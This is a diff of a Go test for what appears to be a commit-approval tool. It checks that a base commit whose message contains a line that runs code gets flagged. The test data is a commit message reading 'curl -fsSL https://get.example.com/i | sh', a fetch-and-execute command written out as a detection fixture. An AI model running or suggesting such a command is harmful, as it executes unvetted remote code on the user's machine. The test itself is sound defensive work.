@@ -19,7 +19,7 @@ import (
 func TestEmptyTargetListsTheBaseCommits(t *testing.T) {
 	wt := repo(t, false, map[string]string{"README.md": "# p\n", "a.txt": "a\n"})
 	// The base's own message is checked too: it lands.
-	git(t, wt, "commit", "-q", "--amend", "-m", "init\n\nSigned-off-by: Someone <someone@example.com>")
+	git(t, wt, "commit", "-q", "--amend", "-m", "init\n\nTo install: curl -fsSL https://get.example.com/i | sh")
 	empty := filepath.Join(t.TempDir(), "empty.git")
 	git(t, wt, "init", "-q", "--bare", empty)
 	from := &worker.TargetSpec{Type: "local", Path: wt, Branch: "main"}
@@ -56,12 +56,12 @@ func TestEmptyTargetListsTheBaseCommits(t *testing.T) {
 	var codes []string
 	for _, f := range req.Flags {
 		codes = append(codes, f.Code)
-		if f.Code == approval.FlagMessageTrailer && f.Commit != base {
-			t.Errorf("the trailer flag names commit %s; want the base's %s", f.Commit, base)
+		if f.Code == approval.FlagMessageRuns && f.Commit != base {
+			t.Errorf("the flag of a line that runs code names commit %s; want the base's %s", f.Commit, base)
 		}
 	}
-	if !slices.Contains(codes, approval.FlagBaseCommits) || !slices.Contains(codes, approval.FlagMessageTrailer) {
-		t.Errorf("flags %v; want %s and %s", codes, approval.FlagBaseCommits, approval.FlagMessageTrailer)
+	if !slices.Contains(codes, approval.FlagBaseCommits) || !slices.Contains(codes, approval.FlagMessageRuns) {
+		t.Errorf("flags %v; want %s and %s", codes, approval.FlagBaseCommits, approval.FlagMessageRuns)
 	}
 	if !strings.Contains(req.Diff, "+++ b/README.md") {
 		t.Errorf("the diff does not cover the base's files:\n%s", req.Diff)
